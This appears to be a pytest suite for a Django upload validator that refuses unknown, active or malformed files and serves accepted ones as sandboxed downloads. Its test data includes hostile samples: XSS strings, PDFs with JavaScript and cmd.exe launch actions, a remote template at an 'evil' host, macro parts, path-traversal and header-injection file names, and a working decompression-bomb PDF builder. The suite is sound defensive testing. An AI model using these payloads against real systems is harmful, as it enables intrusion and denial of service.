"""The one door for files: what is no known kind, or holds something that runs, stays outside; out only as a download."""

import functools
import io
import zipfile

import pikepdf
import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

from kim.models import File
from kim.values import uploads
from kim.values.uploads import checked, plain_name


def picture(kind):
    out = io.BytesIO()
    Image.new("RGB", (4, 4), "red").save(out, kind)
    return out.getvalue()


PNG, JPG = picture("PNG"), picture("JPEG")


def pdf(**root):
    out = io.BytesIO()
    with pikepdf.new() as made:
        made.add_blank_page()
        for key, value in root.items():
            made.Root[f"/{key}"] = value
        made.save(out)
    return out.getvalue()


def locked():
    out = io.BytesIO()
    with pikepdf.new() as made:
        made.add_blank_page()
        made.save(out, encryption=pikepdf.Encryption(owner="a", user="b"))
    return out.getvalue()


def carrying(name):
    out = io.BytesIO()
    with pikepdf.new() as made:
        made.add_blank_page()
        made.attachments[name] = pikepdf.AttachedFileSpec(made, b"x", filename=name)
        made.save(out)
    return out.getvalue()


@functools.cache
def bomb():
    """A small PDF whose catalog lies behind 800 megabytes of blanks in a compressed object stream."""
    import zlib

    press = zlib.compressobj(9)
    blanks = b"".join(press.compress(b" " * 1_000_000) for _ in range(800))
    packed_catalog = press.compress(b"1 0 ") + blanks + press.compress(b"<</Type/Catalog/Pages 3 0 R>>") + press.flush()
    made, places = b"%PDF-1.5\n", {}
    for number, content in (
        (
            2,
            b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n%s\nendstream"
            % (len(packed_catalog), packed_catalog),
        ),
        (3, b"<</Type/Pages/Kids[]/Count 0>>"),
    ):
        places[number] = len(made)
        made += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    places[4] = len(made)
    rows = [(0, 0, 0), (2, 2, 0), *((1, places[n], 0) for n in (2, 3, 4))]
    table = b"".join(bytes([kind]) + where.to_bytes(4, "big") + more.to_bytes(2, "big") for kind, where, more in rows)
    head = b"<</Type/XRef/Size 5/W[1 4 2]/Root 1 0 R/Length %d>>" % len(table)
    made += b"4 0 obj\n%sstream\n%s\nendstream\nendobj\n" % (head, table)
    return made + b"startxref\n%d\n%%%%EOF" % places[4]


def with_part(name, content, *names):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr(name, content)
        for one in names:
            made.writestr(one, b"0")
    return out.getvalue()


TEMPLATE = b'<Relationship Type="http://x/attachedTemplate" Target="http://evil/x.dotm" TargetMode="External"/>'
LINK = b'<Relationship TargetMode="External" Type="http://x/hyperlink" Target="http://land.nrw"/>'


def packed(*names, mimetype="", size=10):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        if mimetype:
            made.writestr("mimetype", mimetype)
        for name in names:
            made.writestr(name, b"0" * size)
    return out.getvalue()


SCRIPT = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
LAUNCH = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe")
GOOD = {
    "bescheid.pdf": pdf(),
    "bild.png": PNG,
    "bild.JPG": JPG,
    "brief.docx": packed("word/document.xml"),
    "liste.xlsx": packed("xl/workbook.xml"),
    "text.odt": packed("content.xml", mimetype="application/vnd.oasis.opendocument.text"),
    "notiz.txt": "Grüße aus Würselen".encode(),
    "alt.csv": "Träger;Höhe".encode("cp1252"),
    "excel.txt": "Träger\tHöhe".encode("utf-16"),
    "nachsatz.jpg": JPG + b"SEFT",
    "drucker.xlsx": packed("xl/workbook.xml", "xl/printerSettings/printerSettings1.bin"),
    "verweis.docx": with_part("word/_rels/document.xml.rels", LINK, "word/document.xml"),
    "rechnung.pdf": carrying("factur-x.xml"),
}
BAD = [
    ("seite.html", b"<script>alert(1)</script>", "Art von Datei"),
    ("bild.svg", b"<svg onload=alert(1)>", "Art von Datei"),
    ("programm.exe", b"MZ", "Art von Datei"),
    ("makro.docm", packed("word/document.xml"), "Art von Datei"),
    ("ohne", b"x", "Art von Datei"),
    ("../../etc/passwd", b"x", "Art von Datei"),
    ("doppelt.pdf.exe", pdf(), "Art von Datei"),
    ("falsch.pdf", b"<html><script>", "nicht der einer PDF-Datei"),
    ("polyglott.png", b"GIF89a/*" + PNG, "nicht der einer PNG-Datei"),
    ("abgeschnitten.jpg", b"\xff\xd8\xff", "nicht der einer JPG-Datei"),
    ("html.jpg", b"<html>", "nicht der einer JPG-Datei"),
    ("kaputt.pdf", b"%PDF-1.7\nxxxx", "beschädigt"),
    ("skript.pdf", pdf(OpenAction=SCRIPT), "Skripte"),
    ("start.pdf", pdf(OpenAction=LAUNCH), "Skripte"),
    ("formular.pdf", pdf(AA=pikepdf.Dictionary(WC=SCRIPT)), "Skripte"),
    ("gesperrt.pdf", locked(), "Passwort"),
    ("kein.docx", packed("irgendwas.xml"), "nicht der einer DOCX-Datei"),
    ("kein2.docx", b"PK\x03\x04 kein zip", "beschädigt"),
    ("makro.docx", packed("word/document.xml", "word/vbaProject.bin"), "Makros"),
    ("aktiv.docx", packed("word/document.xml", "word/activeX/activeX1.xml"), "Makros"),
    ("objekt.xlsx", packed("xl/workbook.xml", "xl/embeddings/oleObject1.bin"), "Makros"),
    ("basic.odt", packed("content.xml", "Basic/Standard/m.xml", mimetype=uploads.TYPES["odt"]), "Makros"),
    ("falscher.odt", packed("content.xml", mimetype="text/html"), "nicht der einer ODT-Datei"),
    ("bombe.xlsx", packed("xl/workbook.xml", size=uploads.UNPACKED + 1), "entpackt sich"),
    ("viele.docx", packed("word/document.xml", *(f"a{n}.xml" for n in range(5001)), size=1), "entpackt sich"),
    ("binaer.txt", b"a\0b", "nicht der einer TXT-Datei"),
    ("steuer.csv", b"a\x1b[31m", "nicht der einer CSV-Datei"),
    ("traegt.pdf", carrying("evil.exe"), "trägt eine Datei"),
    ("anderswo.pdf", pdf(OpenAction=pikepdf.Dictionary(S=pikepdf.Name.GoToR, F="//evil/share")), "Skripte"),
    ("adresse.pdf", pdf(OpenAction=pikepdf.Dictionary(S=pikepdf.Name.URI, URI="http://evil")), "Skripte"),
    ("bombe.pdf", bomb(), "Das PDF"),
    ("vorne.docx", b"MZ" + packed("word/document.xml"), "nicht der einer DOCX-Datei"),
    ("programm.docx", packed("word/document.xml", "word/embeddings/evil.exe"), "Makros"),
    (
        "versteckt.docx",
        with_part("[Content_Types].xml", b"application/vnd.ms-office.vbaProject", "word/document.xml", "word/x.xml"),
        "Makros",
    ),
    ("vorlage.docx", with_part("word/_rels/settings.xml.rels", TEMPLATE, "word/document.xml"), "von anderswo"),
    ("nur-kopf.png", b"\x89PNG\r\n\x1a\nxxxxxxxxxx", "nicht der einer PNG-Datei"),
    ("gross.txt", b"x" * (uploads.LIMIT + 1), "größer als 20 MB"),
]


@pytest.mark.parametrize("name", GOOD)
def test_known_kinds_are_taken(name):
    found = checked(name, GOOD[name])
    assert found.name == name and found.media_type == uploads.TYPES[name.rpartition(".")[2].lower()]
    assert len(found.sha256) == 64 and found.content == GOOD[name]


@pytest.mark.parametrize(("name", "content", "words"), BAD, ids=[name for name, _, _ in BAD])
def test_what_does_not_belong_is_refused_with_a_sentence(name, content, words):
    with pytest.raises(ValidationError) as error:
        checked(name, content)
    assert words in error.value.messages[0]


@pytest.mark.counter
def test_without_the_look_inside_a_script_gets_in(monkeypatch):
    monkeypatch.setattr(uploads, "check_pdf", lambda content: None)
    assert checked("skript.pdf", pdf(OpenAction=SCRIPT))


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("../../etc/bescheid.pdf", "bescheid.pdf"),
        ("C:\\Users\\d\\bescheid.pdf", "bescheid.pdf"),
        ("be\u202escheid.pdf", "bescheid.pdf"),
        ("a\r\nSet-Cookie: x.pdf", "aSet-Cookie x.pdf"),
        ("ü" * 300 + ".pdf", "ü" * 116 + ".pdf"),
        (" .pdf ", "pdf"),
    ],
)
def test_names_are_plain(given, kept):
    assert plain_name(given) == kept and len(plain_name(given)) <= 120


def upload(browser, name="bescheid.pdf", content=None, **more):
    file = SimpleUploadedFile(name, GOOD["bescheid.pdf"] if content is None else content)
    return browser.post("/dateien/neu/stelle/CM-01/", {"file": file} | more)


def test_a_file_comes_back_byte_for_byte_and_inert(login, region):
    browser = login()
    assert upload(browser).status_code == 302
    response = browser.get(File.objects.get().download_url())
    assert response.content == GOOD["bescheid.pdf"]
    assert response["Content-Disposition"].startswith("attachment") and response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Security-Policy"].startswith("sandbox") and response["Cache-Control"] == "no-store"
    assert "bescheid.pdf" in browser.get("/stellen/CM-01/").content.decode()


def test_a_refused_file_says_why(login, region):
    response = upload(login(), "seite.html", b"<script>")
    assert response.status_code == 422 and "Möglich sind: PDF" in response.content.decode()
    assert not File.objects.exists()


def test_the_same_file_twice_is_said(login, region):
    browser = login()
    upload(browser)
    response = upload(browser, "anders.pdf")
    assert response.status_code == 422 and "Diese Datei liegt hier schon." in response.content.decode()


def test_without_a_file_the_form_says_so(login, region):
    response = login().post("/dateien/neu/stelle/CM-01/", {})
    assert response.status_code == 422 and "Bitte eine Datei auswählen." in response.content.decode()


def test_what_is_far_too_large_is_not_even_read(login, region):
    response = upload(login(), "gross.pdf", b"x" * 26_000_000)
    assert response.status_code == 413 and "höchstens 20 MB" in response.content.decode()


def test_the_content_and_the_name_stay_out_of_the_history(region):
    columns = {f.name for f in File.events.rel.related_model._meta.fields}
    assert "sha256" in columns and not columns & {"content", "name"}


@pytest.mark.counter
def test_without_its_own_process_the_bomb_takes_the_memory():
    """The same look in this process unpacks it whole: that is what the bounded process keeps away from the server."""
    import subprocess
    import sys

    code = (
        "import sys; from kim.values.uploads import verdict; words = verdict(sys.stdin.buffer.read());"
        "print(words, next(l.split()[1] for l in open('/proc/self/status') if l.startswith('VmPeak')))"
    )
    run = subprocess.run([sys.executable, "-c", code], input=bomb(), capture_output=True, check=True)
    assert int(run.stdout.split()[-1]) > uploads.SCAN_MEMORY / 1000


def test_a_corrected_file_of_the_same_name_and_size_is_another_form(login, region):
    browser, key = login(), "0b6d2c8e-6d1c-4a39-9f0e-0d2d3c1f7a12"
    for words in (b"eins", b"zwei"):
        assert upload(browser, "a.txt", words, form_key=key).status_code == 302
    assert File.objects.count() == 2
